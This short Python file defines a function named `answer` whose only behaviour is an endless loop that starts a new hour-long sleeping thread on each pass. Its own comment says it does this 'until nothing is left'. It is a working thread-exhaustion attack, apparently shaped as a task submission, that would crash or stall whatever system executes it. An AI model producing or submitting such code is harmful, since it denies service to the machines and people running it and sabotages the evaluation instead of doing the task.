# Starts threads until nothing is left.
import threading
import time


def answer(values):
    while True:
        threading.Thread(target=time.sleep, args=(3600,)).start()
